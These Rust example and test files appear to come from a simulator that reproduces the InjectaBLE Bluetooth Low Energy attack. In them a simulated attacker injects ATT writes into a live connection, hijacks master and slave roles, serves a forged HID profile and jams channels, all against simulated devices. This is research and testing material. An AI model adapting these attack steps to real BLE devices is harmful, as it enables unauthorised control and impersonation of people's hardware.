            timeout: 300,
        },
        instant_delta: 6,
        host: Box::new(HostStack::new(
            DeviceAddress::new([0xAD; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(98),
        )),
        on_takeover_writes: vec![
            (control, bulb_payloads::power_on()),
            (control, bulb_payloads::colour(255, 0, 255)),
        ],
        mitm: None,
    });
    run_until_takeover(&mut scene);
    scene.sim.run_for(Duration::from_secs(5));
    println!("  attacker injected a forged CONNECTION_UPDATE and stole the slave");
    println!(
        "  bulb state: on={} rgb={:?} (set by the attacker)",
        scene.bulb.borrow().app.on,
        scene.bulb.borrow().app.rgb
    );
    println!(
        "  legitimate phone: connected={} (supervision timeout, reason {:?})",
        scene.central.borrow().ll.is_connected(),
        scene.central.borrow().last_disconnect_reason
    );
    assert!(scene.bulb.borrow().app.on);
    assert_eq!(scene.bulb.borrow().app.rgb, (255, 0, 255));
    assert!(!scene.central.borrow().ll.is_connected());
}

fn main() {
    scenario_b();
    scenario_c();
    println!("\nboth takeover scenarios reproduced");
}
