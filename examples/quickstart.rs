//! Quickstart: inject one frame into a live BLE connection.
//!
//! Builds the smallest complete scene — a lightbulb, a smartphone Central
//! and an InjectaBLE attacker on a simulated 2.4 GHz medium — then injects
//! an ATT Write Request that turns the bulb off while the legitimate
//! connection keeps running.
//!
//! Run with: `cargo run -p injectable-examples --bin quickstart`

use std::cell::RefCell;
use std::rc::Rc;

use ble_devices::{bulb_payloads, Central, Lightbulb};
use ble_host::att::AttPdu;
use ble_link::ConnectionParams;
use ble_phy::{Environment, NodeConfig, Position, Simulation};
use injectable::{Attacker, AttackerConfig, Mission, MissionState};
use simkit::{DriftClock, Duration, SimRng};

fn main() {
    // 1. A simulated indoor radio environment, fully deterministic.
    let mut rng = SimRng::seed_from(2021);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());

    // 2. The victim: a connected lightbulb at the origin.
    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    let control = bulb.borrow().control_handle();
    let bulb_addr = bulb.borrow().ll.address();

    // 3. The legitimate smartphone, 2 m away, hop interval 36 (45 ms).
    let params = ConnectionParams::typical(&mut rng, 36);
    let central = Rc::new(RefCell::new(Central::new(
        0xA0,
        bulb_addr,
        params,
        rng.fork(),
    )));

    // 4. The attacker, also 2 m away — the paper's equilateral triangle.
    let attacker = Rc::new(RefCell::new(Attacker::new(AttackerConfig {
        target_slave: Some(bulb_addr),
        ..AttackerConfig::default()
    })));

    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        bulb.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        central.clone(),
    );
    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.0, 2.0))
            .with_clock(DriftClock::realistic(20.0, &mut rng).with_jitter_us(1.0)),
        attacker.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.with_ctx(a, |ctx| attacker.borrow_mut().start(ctx));

    // 5. Let the connection establish; the phone turns the bulb on.
    sim.run_for(Duration::from_secs(1));
    central
        .borrow_mut()
        .write(control, bulb_payloads::power_on());
    sim.run_for(Duration::from_secs(1));
    println!(
        "[t={:>6.2}s] bulb is on: {}",
        seconds(&sim),
        bulb.borrow().app.on
    );
    assert!(bulb.borrow().app.on);

    // 6. Attack: inject a Write Request turning the bulb off (paper §VI-A).
    let att = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::power_off(),
    }
    .to_bytes();
    attacker.borrow_mut().arm(Mission::InjectAtt { att });
    println!(
        "[t={:>6.2}s] attacker armed: injecting an ATT Write Request",
        seconds(&sim)
    );

    while attacker.borrow().mission_state() != MissionState::Complete {
        sim.run_for(Duration::from_millis(200));
    }
    let attempts = attacker.borrow().stats().attempts_to_first_success();
    println!(
        "[t={:>6.2}s] injection confirmed after {} attempt(s)",
        seconds(&sim),
        attempts.expect("success recorded")
    );
    println!(
        "[t={:>6.2}s] bulb is on: {}",
        seconds(&sim),
        bulb.borrow().app.on
    );
    assert!(
        !bulb.borrow().app.on,
        "the injected write turned the bulb off"
    );

    // 7. The legitimate connection never noticed.
    sim.run_for(Duration::from_secs(2));
    assert!(central.borrow().ll.is_connected(), "master unaware");
    assert!(bulb.borrow().ll.is_connected(), "slave unaware");
    println!(
        "[t={:>6.2}s] legitimate connection still healthy — attack was invisible",
        seconds(&sim)
    );
}

fn seconds(sim: &Simulation) -> f64 {
    sim.now().as_micros_f64() / 1e6
}
