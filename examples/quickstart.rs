//! Quickstart: inject one frame into a live BLE connection.
//!
//! Builds the smallest complete scene — a lightbulb, a smartphone Central
//! and an InjectaBLE attacker on a simulated 2.4 GHz medium — then injects
//! an ATT Write Request that turns the bulb off while the legitimate
//! connection keeps running.
//!
//! Run with: `cargo run -p injectable-examples --bin quickstart`

use ble_devices::{bulb_payloads, Lightbulb};
use ble_host::att::AttPdu;
use ble_scenario::{Scenario, ScenarioBuilder};
use injectable::{Mission, MissionState};
use simkit::Duration;

fn main() {
    // 1. A deterministic indoor scene: bulb at the origin, phone 2 m away
    //    (hop interval 36 = 45 ms), attacker completing the paper's
    //    equilateral triangle.
    let mut s = ScenarioBuilder::example(2021).build();
    let control = s.victim_control_handle();

    // 2. Let the connection establish; the phone turns the bulb on.
    s.run_for(Duration::from_secs(1));
    s.central_mut().write(control, bulb_payloads::power_on());
    s.run_for(Duration::from_secs(1));
    println!(
        "[t={:>6.2}s] bulb is on: {}",
        seconds(&s),
        s.victim::<Lightbulb>().app.on
    );
    assert!(s.victim::<Lightbulb>().app.on);

    // 3. Attack: inject a Write Request turning the bulb off (paper §VI-A).
    let att = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::power_off(),
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    println!(
        "[t={:>6.2}s] attacker armed: injecting an ATT Write Request",
        seconds(&s)
    );

    while s.attacker().mission_state() != MissionState::Complete {
        s.run_for(Duration::from_millis(200));
    }
    let attempts = s.attacker().stats().attempts_to_first_success();
    println!(
        "[t={:>6.2}s] injection confirmed after {} attempt(s)",
        seconds(&s),
        attempts.expect("success recorded")
    );
    println!(
        "[t={:>6.2}s] bulb is on: {}",
        seconds(&s),
        s.victim::<Lightbulb>().app.on
    );
    assert!(
        !s.victim::<Lightbulb>().app.on,
        "the injected write turned the bulb off"
    );

    // 4. The legitimate connection never noticed.
    s.run_for(Duration::from_secs(2));
    assert!(s.central().ll.is_connected(), "master unaware");
    assert!(s.victim_connected(), "slave unaware");
    println!(
        "[t={:>6.2}s] legitimate connection still healthy — attack was invisible",
        seconds(&s)
    );
}

fn seconds(s: &Scenario) -> f64 {
    s.now().as_micros_f64() / 1e6
}
