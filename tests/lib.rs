//! Integration tests live in the `tests/` subdirectory of this package.
