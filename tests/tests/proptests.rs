//! Property-based tests on the core data structures and invariants,
//! spanning all workspace crates.

use ble_host::att::AttPdu;
use ble_host::l2cap;
use ble_link::{
    AddressType, AdvertisingPdu, ChannelMap, ConnectionParams, ControlPdu, Csa1, Csa2, DataPdu,
    DeviceAddress, Llid, SleepClockAccuracy,
};
use ble_phy::{crc24, whitened, AccessAddress, Channel};
use proptest::prelude::*;

fn arb_channel_map() -> impl Strategy<Value = ChannelMap> {
    proptest::collection::btree_set(0u8..37, 2..37)
        .prop_map(|set| ChannelMap::from_indices(&set.into_iter().collect::<Vec<_>>()))
}

fn arb_llid() -> impl Strategy<Value = Llid> {
    prop_oneof![
        Just(Llid::ContinuationOrEmpty),
        Just(Llid::StartOrComplete),
        Just(Llid::Control),
    ]
}

proptest! {
    // ---------------- PHY ----------------

    #[test]
    fn whitening_roundtrips(channel in 0u8..40, data in proptest::collection::vec(any::<u8>(), 0..64)) {
        let ch = Channel::new(channel).unwrap();
        let once = whitened(ch, &data);
        prop_assert_eq!(whitened(ch, &once), data);
    }

    #[test]
    fn crc_detects_any_single_bit_flip(
        init in 0u32..0x100_0000,
        data in proptest::collection::vec(any::<u8>(), 1..40),
        flip_bit in 0usize..8,
        flip_byte_seed in any::<u64>(),
    ) {
        let flip_byte = (flip_byte_seed % data.len() as u64) as usize;
        let mut corrupted = data.clone();
        corrupted[flip_byte] ^= 1 << flip_bit;
        prop_assert_ne!(crc24(init, &data), crc24(init, &corrupted));
    }

    #[test]
    fn crc_is_deterministic_and_24_bit(init in any::<u32>(), data in proptest::collection::vec(any::<u8>(), 0..64)) {
        let a = crc24(init, &data);
        prop_assert_eq!(a, crc24(init, &data));
        prop_assert!(a <= 0xFF_FFFF);
    }

    // ---------------- Link Layer PDUs ----------------

    #[test]
    fn data_pdu_roundtrips(
        llid in arb_llid(),
        nesn in any::<bool>(),
        sn in any::<bool>(),
        md in any::<bool>(),
        payload in proptest::collection::vec(any::<u8>(), 0..255),
    ) {
        let pdu = DataPdu::new(llid, nesn, sn, md, payload);
        prop_assert_eq!(DataPdu::from_bytes(&pdu.to_bytes()).unwrap(), pdu);
    }

    #[test]
    fn data_pdu_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let _ = DataPdu::from_bytes(&bytes);
    }

    #[test]
    fn control_pdu_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..64)) {
        let _ = ControlPdu::from_bytes(&bytes);
    }

    #[test]
    fn advertising_pdu_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..80)) {
        let _ = AdvertisingPdu::from_bytes(&bytes);
    }

    #[test]
    fn connection_update_roundtrips(
        win_size in any::<u8>(),
        win_offset in any::<u16>(),
        interval in any::<u16>(),
        latency in any::<u16>(),
        timeout in any::<u16>(),
        instant in any::<u16>(),
    ) {
        let pdu = ControlPdu::ConnectionUpdateInd { win_size, win_offset, interval, latency, timeout, instant };
        prop_assert_eq!(ControlPdu::from_bytes(&pdu.to_bytes()).unwrap(), pdu);
    }

    #[test]
    fn channel_map_bytes_roundtrip(map in arb_channel_map()) {
        prop_assert_eq!(ChannelMap::from_bytes(map.to_bytes()), map);
    }

    #[test]
    fn connect_req_roundtrips(
        seed in any::<u64>(),
        hop_interval in 6u16..3200,
        init_seed in any::<u8>(),
        adv_seed in any::<u8>(),
    ) {
        let mut rng = simkit::SimRng::seed_from(seed);
        let params = ConnectionParams::typical(&mut rng, hop_interval);
        let pdu = AdvertisingPdu::ConnectReq {
            initiator: DeviceAddress::new([init_seed; 6], AddressType::Public),
            advertiser: DeviceAddress::new([adv_seed; 6], AddressType::Random),
            params,
            ch_sel: seed.is_multiple_of(2),
        };
        prop_assert_eq!(AdvertisingPdu::from_bytes(&pdu.to_bytes()).unwrap(), pdu);
    }

    // ---------------- Channel selection ----------------

    #[test]
    fn csa1_always_lands_on_used_channels(
        hop in 5u8..17,
        map in arb_channel_map(),
        events in 1usize..200,
    ) {
        let mut csa = Csa1::new(hop);
        for _ in 0..events {
            let ch = csa.next_channel(&map);
            prop_assert!(map.is_used(ch.index()));
        }
    }

    #[test]
    fn csa2_always_lands_on_used_channels(
        aa in any::<u32>(),
        map in arb_channel_map(),
        counter in any::<u16>(),
    ) {
        let csa = Csa2::new(AccessAddress::new(aa));
        let ch = csa.channel_for_event(counter, &map);
        prop_assert!(map.is_used(ch.index()));
    }

    #[test]
    fn csa1_followers_stay_synchronised(hop in 5u8..17, map in arb_channel_map(), start in 0u8..37) {
        // A sniffer resuming from a mid-connection snapshot follows exactly.
        let mut original = Csa1::with_state(hop, start);
        let mut follower = Csa1::with_state(hop, original.last_unmapped());
        for _ in 0..100 {
            prop_assert_eq!(original.next_channel(&map), follower.next_channel(&map));
        }
    }

    // ---------------- Host ----------------

    #[test]
    fn l2cap_roundtrips_any_sdu(
        cid in any::<u16>(),
        sdu in proptest::collection::vec(any::<u8>(), 0..600),
        ll_payload in 5usize..252,
    ) {
        let frags = l2cap::fragment(cid, &sdu, ll_payload);
        let out = l2cap::reassemble_iter(&frags);
        prop_assert_eq!(out, vec![(cid, sdu)]);
    }

    #[test]
    fn l2cap_reassembler_survives_garbage(
        chunks in proptest::collection::vec(
            (arb_llid(), proptest::collection::vec(any::<u8>(), 0..40)),
            0..30
        ),
    ) {
        let mut r = l2cap::Reassembler::new();
        for (llid, payload) in &chunks {
            let _ = r.push(*llid, payload);
        }
    }

    #[test]
    fn att_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..64)) {
        let _ = AttPdu::from_bytes(&bytes);
    }

    #[test]
    fn att_write_roundtrips(handle in any::<u16>(), value in proptest::collection::vec(any::<u8>(), 0..100)) {
        let pdu = AttPdu::WriteRequest { handle, value };
        prop_assert_eq!(AttPdu::from_bytes(&pdu.to_bytes()), Some(pdu));
    }

    // ---------------- Crypto ----------------

    #[test]
    fn ccm_roundtrips_and_rejects_tampering(
        key in any::<[u8; 16]>(),
        nonce in any::<[u8; 13]>(),
        aad in proptest::collection::vec(any::<u8>(), 0..8),
        payload in proptest::collection::vec(any::<u8>(), 0..128),
        tamper_byte in any::<u64>(),
    ) {
        let cipher = ble_crypto::Aes128::new(&key);
        let sealed = ble_crypto::ccm::encrypt(&cipher, &nonce, &aad, &payload, 4);
        prop_assert_eq!(
            ble_crypto::ccm::decrypt(&cipher, &nonce, &aad, &sealed, 4).unwrap(),
            payload
        );
        let mut bad = sealed.clone();
        let idx = (tamper_byte % bad.len() as u64) as usize;
        bad[idx] ^= 0x01;
        prop_assert!(ble_crypto::ccm::decrypt(&cipher, &nonce, &aad, &bad, 4).is_err());
    }

    // ---------------- Timing ----------------

    #[test]
    fn window_widening_is_monotone(
        sca_m in 0f64..500.0,
        sca_s in 0f64..500.0,
        interval_a in 6u64..3200,
        interval_b in 6u64..3200,
    ) {
        use ble_link::timing::{connection_interval, window_widening};
        let (lo, hi) = if interval_a <= interval_b { (interval_a, interval_b) } else { (interval_b, interval_a) };
        let w_lo = window_widening(sca_m, sca_s, connection_interval(lo as u16));
        let w_hi = window_widening(sca_m, sca_s, connection_interval(hi as u16));
        prop_assert!(w_lo <= w_hi);
        prop_assert!(w_lo >= ble_link::timing::WIDENING_JITTER);
    }

    #[test]
    fn sca_covering_always_covers(ppm in 0f64..500.0) {
        let class = SleepClockAccuracy::covering(ppm);
        prop_assert!(class.worst_case_ppm() >= ppm);
    }

    // ---------------- Heuristic (paper eq. 6/7 algebra) ----------------

    #[test]
    fn forged_frame_is_acknowledged_by_the_algebra(sn_s in any::<bool>(), nesn_s in any::<bool>()) {
        // eq. 6: SN_a = NESN_s, NESN_a = SN_s + 1.
        let sn_a = nesn_s;
        let nesn_a = !sn_s;
        // A slave that accepts the frame advances NESN and sends SN = NESN_a-acked value.
        let response_nesn = !sn_a;
        let response_sn = nesn_a;
        let attempt = injectable::InjectionAttempt {
            t_a: simkit::Instant::from_micros(1000),
            d_a: simkit::Duration::from_micros(176),
            sn_a,
            nesn_a,
        };
        let response = injectable::ObservedResponse {
            t_s: attempt.expected_response_start(),
            sn_s: response_sn,
            nesn_s: response_nesn,
        };
        prop_assert!(injectable::injection_succeeded(&attempt, &response));
    }
}
