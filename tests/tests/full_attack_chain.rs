//! Whole-system integration: the complete InjectaBLE kill chain in one
//! simulation, plus a crowded radio environment with bystander connections.

use ble_devices::{bulb_payloads, Central, Keyfob, Lightbulb};
use ble_host::att::AttPdu;
use ble_host::gatt::props;
use ble_host::{GattServer, HostStack, Uuid};
use ble_link::{AddressType, ConnectionParams, DeviceAddress, UpdateRequest};
use ble_phy::{Environment, NodeConfig, Position, Simulation};
use injectable::{Attacker, AttackerConfig, Mission, MissionState};
use simkit::{DriftClock, Duration, SimRng};

fn clock(rng: &mut SimRng, bound: f64) -> DriftClock {
    DriftClock::realistic(bound, rng).with_jitter_us(1.0)
}

/// The full kill chain in one world: sniff, inject (scenario A), then
/// escalate to a master hijack (scenario C) on the *same* connection state
/// machinery, with a bystander connection running throughout.
#[test]
fn full_kill_chain_with_bystanders() {
    let mut rng = SimRng::seed_from(0x4B11);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());

    // Victims.
    let bulb = Lightbulb::new(0xB1, rng.fork());
    let control = bulb.control_handle();
    let bulb_addr = bulb.ll.address();
    let params = ConnectionParams::typical(&mut rng, 36);
    let phone = Central::new(0xA0, bulb_addr, params, rng.fork());

    // A bystander pair on an unrelated connection (different AA/hops).
    let fob = Keyfob::new(0xF0, rng.fork());
    let fob_addr = fob.ll.address();
    let bystander_params = ConnectionParams::typical(&mut rng, 24);
    let bystander = Central::new(0xA9, fob_addr, bystander_params, rng.fork());

    // The attacker, targeting only the bulb.
    let attacker = Attacker::new(AttackerConfig {
        target_slave: Some(bulb_addr),
        ..AttackerConfig::default()
    });

    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0)).with_clock(clock(&mut rng, 50.0)),
        bulb,
    );
    let p = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0)).with_clock(clock(&mut rng, 50.0)),
        phone,
    );
    let f = sim.add_node(
        NodeConfig::new("fob", Position::new(4.0, 4.0)).with_clock(clock(&mut rng, 50.0)),
        fob,
    );
    let bp = sim.add_node(
        NodeConfig::new("bystander", Position::new(5.0, 4.0)).with_clock(clock(&mut rng, 50.0)),
        bystander,
    );
    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.0, 2.0)).with_clock(clock(&mut rng, 20.0)),
        attacker,
    );
    for id in [b, p, f, bp, a] {
        sim.start(id);
    }
    // Phase 0: everything connects; attacker locks onto the right target.
    // The sniffer needs to be on the right advertising channel when the
    // CONNECT_REQ flies; bounce the connection until it catches one, as the
    // paper's operators did between injection runs.
    let mut ticks = 0u32;
    for _ in 0..400 {
        sim.run_for(Duration::from_millis(100));
        let following = sim
            .node::<Attacker>(a)
            .unwrap()
            .connection()
            .map(|t| t.has_slave_seq())
            .unwrap_or(false);
        let ready = sim.node::<Central>(p).unwrap().ll.is_connected()
            && sim.node::<Central>(bp).unwrap().ll.is_connected()
            && following;
        if ready {
            break;
        }
        ticks += 1;
        if !following
            && sim.node::<Central>(p).unwrap().ll.is_connected()
            && ticks.is_multiple_of(30)
        {
            sim.node_mut::<Central>(p)
                .unwrap()
                .ll
                .request_disconnect(0x13);
        }
    }
    // Stop reconnect churn for the attack phases.
    sim.node_mut::<Central>(p).unwrap().auto_reconnect = false;
    sim.run_for(Duration::from_millis(500));
    {
        let att = sim.node::<Attacker>(a).unwrap();
        let conn = att.connection().expect("attacker synchronised");
        assert_eq!(
            conn.slave.octets, bulb_addr.octets,
            "targeted the bulb, not the fob"
        );
    }

    // Phase 1 (scenario A): inject a colour change.
    let att_pdu = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::colour(1, 2, 3),
    }
    .to_bytes();
    sim.node_mut::<Attacker>(a)
        .unwrap()
        .arm(Mission::InjectAtt { att: att_pdu });
    for _ in 0..150 {
        sim.run_for(Duration::from_millis(200));
        if sim.node::<Attacker>(a).unwrap().mission_state() == MissionState::Complete {
            break;
        }
    }
    assert_eq!(
        sim.node::<Attacker>(a).unwrap().mission_state(),
        MissionState::Complete
    );
    assert_eq!(
        sim.node::<Lightbulb>(b).unwrap().app.rgb,
        (1, 2, 3),
        "scenario A landed"
    );

    // Phase 2 (scenario C): escalate to a full master hijack.
    sim.node_mut::<Attacker>(a)
        .unwrap()
        .arm(Mission::HijackMaster {
            update: UpdateRequest {
                win_size: 2,
                win_offset: 3,
                interval: 60,
                latency: 0,
                timeout: 300,
            },
            instant_delta: 6,
            host: Box::new(HostStack::new(
                DeviceAddress::new([0xAD; 6], AddressType::Random),
                GattServer::new(),
                SimRng::seed_from(77),
            )),
            on_takeover_writes: vec![(control, bulb_payloads::power_on())],
            mitm: None,
        });
    for _ in 0..300 {
        sim.run_for(Duration::from_millis(200));
        if sim.node::<Attacker>(a).unwrap().mission_state() == MissionState::TakenOver {
            break;
        }
    }
    sim.run_for(Duration::from_secs(5));
    assert_eq!(
        sim.node::<Attacker>(a).unwrap().mission_state(),
        MissionState::TakenOver
    );
    assert!(
        sim.node::<Lightbulb>(b).unwrap().app.on,
        "attacker drives the bulb as master"
    );
    assert!(
        !sim.node::<Central>(p).unwrap().ll.is_connected(),
        "legit master starved out"
    );

    // Bystanders were never disturbed.
    assert!(
        sim.node::<Central>(bp).unwrap().ll.is_connected(),
        "bystander connection untouched"
    );
    assert_eq!(sim.node::<Keyfob>(f).unwrap().app.rings, 0);
    assert_eq!(sim.node::<Keyfob>(f).unwrap().disconnections, 0);
}

/// The attacker must ignore CONNECT_REQs for other slaves while scanning.
#[test]
fn targeted_sniffer_skips_unrelated_connections() {
    let mut rng = SimRng::seed_from(0x5EED);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());

    let fob = Keyfob::new(0xF0, rng.fork());
    let fob_addr = fob.ll.address();
    let fob_params = ConnectionParams::typical(&mut rng, 24);
    let fob_central = Central::new(0xA9, fob_addr, fob_params, rng.fork());

    // Attacker targets a bulb that never appears.
    let ghost = DeviceAddress::new([0xDD; 6], AddressType::Public);
    let attacker = Attacker::new(AttackerConfig {
        target_slave: Some(ghost),
        ..AttackerConfig::default()
    });

    let f = sim.add_node(
        NodeConfig::new("fob", Position::new(0.0, 0.0)).with_clock(clock(&mut rng, 50.0)),
        fob,
    );
    let c = sim.add_node(
        NodeConfig::new("central", Position::new(1.0, 0.0)).with_clock(clock(&mut rng, 50.0)),
        fob_central,
    );
    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.0, 1.0)).with_clock(clock(&mut rng, 20.0)),
        attacker,
    );
    for id in [f, c, a] {
        sim.start(id);
    }

    sim.run_for(Duration::from_secs(5));
    assert!(
        sim.node::<Central>(c).unwrap().ll.is_connected(),
        "unrelated pair connects fine"
    );
    let attacker = sim.node::<Attacker>(a).unwrap();
    assert!(attacker.connection().is_none(), "sniffer stays unlocked");
    assert_eq!(attacker.stats().connections_followed, 0);
}

/// Determinism across the whole stack: same seed, same attack trace.
#[test]
fn entire_attack_is_reproducible_from_a_seed() {
    let run = |seed: u64| -> (Option<u32>, (u8, u8, u8)) {
        let mut rng = SimRng::seed_from(seed);
        let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());
        let bulb = Lightbulb::new(0xB1, rng.fork());
        let control = bulb.control_handle();
        let bulb_addr = bulb.ll.address();
        let params = ConnectionParams::typical(&mut rng, 36);
        let central = Central::new(0xA0, bulb_addr, params, rng.fork());
        let attacker = Attacker::new(AttackerConfig {
            target_slave: Some(bulb_addr),
            ..AttackerConfig::default()
        });
        let b = sim.add_node(
            NodeConfig::new("bulb", Position::new(0.0, 0.0)).with_clock(clock(&mut rng, 50.0)),
            bulb,
        );
        let c = sim.add_node(
            NodeConfig::new("phone", Position::new(2.0, 0.0)).with_clock(clock(&mut rng, 50.0)),
            central,
        );
        let a = sim.add_node(
            NodeConfig::new("attacker", Position::new(0.0, 2.0)).with_clock(clock(&mut rng, 20.0)),
            attacker,
        );
        let _ = c;
        for id in [b, c, a] {
            sim.start(id);
        }
        sim.run_for(Duration::from_secs(2));
        let att = AttPdu::WriteRequest {
            handle: control,
            value: bulb_payloads::colour(42, 43, 44),
        }
        .to_bytes();
        sim.node_mut::<Attacker>(a)
            .unwrap()
            .arm(Mission::InjectAtt { att });
        sim.run_for(Duration::from_secs(20));
        let attempts = sim
            .node::<Attacker>(a)
            .unwrap()
            .stats()
            .attempts_to_first_success();
        let rgb = sim.node::<Lightbulb>(b).unwrap().app.rgb;
        (attempts, rgb)
    };
    let a = run(31337);
    let b = run(31337);
    assert_eq!(a, b, "same seed must replay bit-for-bit");
    assert_eq!(a.1, (42, 43, 44));
}

/// A forged GATT profile can be anything — here the attacker impersonates
/// the bulb with an extended profile after a slave hijack, and the master
/// discovers the forged services.
#[test]
fn hijacked_slave_serves_arbitrary_forged_profile() {
    let mut rng = SimRng::seed_from(0xFACE);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());
    let mut bulb = Lightbulb::new(0xB1, rng.fork());
    bulb.auto_readvertise = false;
    let bulb_addr = bulb.ll.address();
    let params = ConnectionParams::typical(&mut rng, 36);
    let mut phone = Central::new(0xA0, bulb_addr, params, rng.fork());
    phone.auto_reconnect = false;
    let attacker = Attacker::new(AttackerConfig {
        target_slave: Some(bulb_addr),
        ..AttackerConfig::default()
    });
    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0)).with_clock(clock(&mut rng, 50.0)),
        bulb,
    );
    let p = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0)).with_clock(clock(&mut rng, 50.0)),
        phone,
    );
    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.0, 2.0)).with_clock(clock(&mut rng, 20.0)),
        attacker,
    );
    for id in [b, p, a] {
        sim.start(id);
    }
    for _ in 0..100 {
        sim.run_for(Duration::from_millis(100));
        if sim.node::<Central>(p).unwrap().ll.is_connected()
            && sim
                .node::<Attacker>(a)
                .unwrap()
                .connection()
                .map(|t| t.has_slave_seq())
                .unwrap_or(false)
        {
            break;
        }
    }
    sim.run_for(Duration::from_millis(400));

    // Forged profile: a fake HID-like service (the paper's future-work idea
    // of exposing a malicious keyboard profile after a slave hijack).
    let mut server = GattServer::new();
    server
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, b"Hacked".to_vec())
        .finish();
    server
        .service(Uuid::short(0x1812)) // HID service
        .characteristic(Uuid::short(0x2A4D), props::READ | props::NOTIFY, vec![0, 0])
        .finish();
    let host = Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        server,
        SimRng::seed_from(3),
    ));
    sim.node_mut::<Attacker>(a)
        .unwrap()
        .arm(Mission::HijackSlave { host });
    for _ in 0..300 {
        sim.run_for(Duration::from_millis(200));
        if sim.node::<Attacker>(a).unwrap().mission_state() == MissionState::TakenOver {
            break;
        }
    }
    assert_eq!(
        sim.node::<Attacker>(a).unwrap().mission_state(),
        MissionState::TakenOver
    );

    // The phone re-discovers services and finds the forged HID service.
    sim.node_mut::<Central>(p).unwrap().host.discover_services();
    sim.run_for(Duration::from_secs(2));
    let phone_ref = sim.node::<Central>(p).unwrap();
    let discovered = phone_ref
        .event_log
        .iter()
        .filter_map(|e| match e {
            ble_host::HostEvent::ServicesDiscovered { data, entry_len } => {
                Some((data.clone(), *entry_len))
            }
            _ => None,
        })
        .next_back()
        .expect("service discovery response");
    let (data, entry_len) = discovered;
    let mut uuids = Vec::new();
    for entry in data.chunks(entry_len as usize) {
        if entry.len() == entry_len as usize && entry_len == 6 {
            uuids.push(u16::from_le_bytes([entry[4], entry[5]]));
        }
    }
    assert!(
        uuids.contains(&0x1812),
        "forged HID service visible: {uuids:04X?}"
    );
}
