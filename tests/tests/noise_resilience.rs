//! Failure injection: hostile RF conditions. Channel hopping plus the
//! SN/NESN retransmission machinery must carry connections through
//! interference — the resilience the paper's noisy-lab experiments lean on
//! ("the experiment was conducted in a realistic environment, including
//! several other BLE devices and multiple WiFi routers").

use ble_devices::{bulb_payloads, Central, Lightbulb};
use ble_link::ConnectionParams;
use ble_phy::{
    AccessAddress, Channel, Environment, NodeConfig, NodeCtx, Position, RadioEvent, RadioListener,
    RawFrame, Simulation, TimerKey,
};
use simkit::{DriftClock, Duration, SimRng};

/// A jammer blasting garbage frames on a fixed set of data channels, with a
/// duty cycle high enough to corrupt any victim frame it overlaps.
struct Jammer {
    channels: Vec<Channel>,
    next: usize,
    period: Duration,
}

impl Jammer {
    fn new(channel_indices: &[u8], period: Duration) -> Self {
        Jammer {
            channels: channel_indices
                .iter()
                .map(|&i| Channel::data(i).expect("data channel"))
                .collect(),
            next: 0,
            period,
        }
    }

    fn blast(&mut self, ctx: &mut NodeCtx<'_>) {
        let channel = self.channels[self.next % self.channels.len()];
        self.next += 1;
        // A long garbage frame on a bogus access address: pure interference.
        let frame = RawFrame::new(AccessAddress::new(0xDEAD_BEEF), vec![0x5A; 200], 0);
        ctx.transmit(channel, frame);
    }
}

impl RadioListener for Jammer {
    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        match event {
            RadioEvent::Timer { .. } => self.blast(ctx),
            RadioEvent::TxDone { .. } => {
                let period = self.period;
                ctx.set_timer_local(period, TimerKey(0x80));
            }
            _ => {}
        }
    }
}

#[test]
fn connection_survives_partial_band_jamming() {
    let mut rng = SimRng::seed_from(0xBAD);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());
    let bulb = Lightbulb::new(0xB1, rng.fork());
    let control = bulb.control_handle();
    let bulb_addr = bulb.ll.address();
    let params = ConnectionParams::typical(&mut rng, 24);
    let central = Central::new(0xA0, bulb_addr, params, rng.fork());
    // Jam 8 of the 37 data channels continuously, right next to the victim.
    let jammer = Jammer::new(&[0, 5, 10, 15, 20, 25, 30, 35], Duration::from_micros(500));

    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        bulb,
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        central,
    );
    let j = sim.add_node(
        NodeConfig::new("jammer", Position::new(0.5, 0.5)).with_tx_power(8.0),
        jammer,
    );
    sim.start(b);
    sim.start(c);
    sim.with_node_ctx::<Jammer, _>(j, |jammer, ctx| jammer.blast(ctx))
        .expect("jammer node");

    // Connection establishes despite the noise (advertising channels are
    // clean) and stays alive across jammed data channels.
